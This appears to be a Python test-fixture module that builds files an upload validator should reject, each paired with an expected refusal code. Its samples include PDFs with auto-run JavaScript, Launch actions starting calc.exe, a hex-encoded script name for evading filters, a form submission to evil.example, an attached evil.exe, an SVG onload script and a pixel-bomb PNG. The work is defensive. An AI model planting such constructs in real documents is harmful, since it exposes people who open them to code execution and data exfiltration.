"""Files that must be refused, and good ones, made by the test itself."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **save: object) -> bytes:
    """Return a small PDF, changed before it is saved."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def picture(kind: str, *, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    """Return a picture of one colour."""
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **options)
    return out.getvalue()


def with_action(kind: str, **more: object) -> bytes:
    """Return a PDF that does something when it is opened."""
    action = Dictionary(S=Name("/" + kind), **more)
    return pdf(lambda document: setattr(document.Root, "OpenAction", document.make_indirect(action)))


def _link_with(kind: str, **more: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name("/" + kind), **more)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        document.pages[0].Annots = Array([document.make_indirect(link)])

    return pdf(change)


def _annotation(subtype: str) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 9, 9]))
        document.pages[0].Annots = Array([note])

    return pdf(change)


def _named_script(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ"


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _page_action(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))


def _next_action(document: pikepdf.Pdf) -> None:
    following = Dictionary(S=Name.Launch, F=String("calc.exe"))
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([0]), Next=following)


def _deep(document: pikepdf.Pdf) -> None:
    inner = Dictionary(JS=String("1"))
    for _ in range(90):
        inner = Dictionary(K=Array([inner]))
    document.Root.PieceInfo = inner


def png_of(width: int, height: int) -> bytes:
    """Return a PNG that says it is that large and holds one line of it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4) + body + zlib.crc32(body).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + b"\x08\x02\x00\x00\x00"
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
    return start + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


def _animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _script_in_hex() -> bytes:
    good = pdf(_named_script, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    # The same name written otherwise; the lengths differ, so the file is written anew by the reader.
    return good.replace(b"/JavaScript", b"/J#61vaScript")


SECRET = pikepdf.Encryption(owner="owner", user="secret")
NO_PASSWORD = pikepdf.Encryption(owner="owner", user="")

# name of the case -> (file name, contents, code of the refusal)
BAD: dict[str, tuple[str, bytes, str]] = {
    "empty": ("a.pdf", b"", "empty"),
    "too big": ("a.pdf", b"%PDF-1.7\n" + b"0" * (10 * 1024 * 1024), "too_big"),
    "text": ("a.pdf", b"just words", "kind"),
    "html": ("a.pdf", b"<html><script>alert(1)</script></html>", "kind"),
    "svg": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "kind"),
    "zip": ("a.pdf", b"PK\x03\x04" + b"\0" * 60, "kind"),
    "program": ("a.pdf", b"MZ" + b"\0" * 200, "kind"),
    "elf": ("a.png", b"\x7fELF" + b"\0" * 200, "kind"),
    "gif": ("a.png", b"GIF89a" + b"\0" * 60, "kind"),
    "old office": ("a.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "kind"),
    "tiff": ("a.jpg", picture("TIFF"), "kind"),
    "webp": ("a.jpg", picture("WEBP"), "kind"),
    "program's name": ("invoice.pdf.exe", pdf(), "name"),
    "page's name": ("invoice.html", pdf(), "name"),
    "no ending": ("invoice", pdf(), "name"),
    "picture called pdf": ("invoice.pdf", picture("JPEG"), "name"),
    "pdf called picture": ("invoice.png", pdf(), "name"),
    "only a pdf's head": ("a.pdf", b"%PDF-1.7\n", "damaged"),
    "cut pdf": ("a.pdf", pdf(pages=9)[:-60], "damaged"),
    "pdf with rubbish inside": ("a.pdf", b"%PDF-1.7\n" + b"\xff" * 5000 + b"%%EOF", "damaged"),
    "pdf after rubbish": ("a.pdf", b"\0" * 9 + pdf(), "kind"),
    "password": ("a.pdf", pdf(encryption=SECRET), "pdf_encrypted"),
    "rights password": ("a.pdf", pdf(encryption=NO_PASSWORD), "pdf_encrypted"),
    "no pages": ("a.pdf", pdf(pages=0), "pdf_pages"),
    "too many pages": ("a.pdf", pdf(pages=1001), "pdf_pages"),
    "script on opening": ("a.pdf", with_action("JavaScript", JS=String("app.alert(1)")), "pdf_action"),
    "script by name": ("a.pdf", pdf(_named_script), "pdf_script"),
    "script by odd name": ("a.pdf", _script_in_hex(), "damaged"),
    "script in a link": ("a.pdf", _link_with("JavaScript", JS=String("1")), "pdf_script"),
    "script deep inside": ("a.pdf", pdf(_deep), "pdf_script"),
    "program on opening": ("a.pdf", with_action("Launch", F=String("calc.exe")), "pdf_action"),
    "program in a link": ("a.pdf", _link_with("Launch", F=String("calc.exe")), "pdf_action"),
    "program after a view": ("a.pdf", pdf(_next_action), "pdf_action"),
    "other file": ("a.pdf", _link_with("GoToR", F=String("//evil/share")), "pdf_action"),
    "attached pdf": ("a.pdf", _link_with("GoToE"), "pdf_action"),
    "sends a form": ("a.pdf", _link_with("SubmitForm", F=String("https://evil.example")), "pdf_action"),
    "imports data": ("a.pdf", _link_with("ImportData", F=String("x")), "pdf_action"),
    "action of a page": ("a.pdf", pdf(_page_action), "pdf_action"),
    "attachment": ("a.pdf", pdf(_attached), "pdf_attachment"),
    "attachment as a note": ("a.pdf", _annotation("FileAttachment"), "pdf_attachment"),
    "film": ("a.pdf", _annotation("RichMedia"), "pdf_media"),
    "3d": ("a.pdf", _annotation("3D"), "pdf_media"),
    "xfa form": ("a.pdf", pdf(_xfa), "pdf_form"),
    "cut jpeg": ("a.jpg", picture("JPEG", size=(400, 400))[:-200], "damaged"),
    "cut png": ("a.png", picture("PNG", size=(400, 400))[:-40], "damaged"),
    "only a jpeg's head": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, "damaged"),
    "pixel bomb": ("a.png", png_of(60_000, 60_000), "picture_pixels"),
    "just too many pixels": ("a.png", png_of(5_001, 5_000), "picture_pixels"),
    "animated": ("a.png", _animated(), "picture_frames"),
}
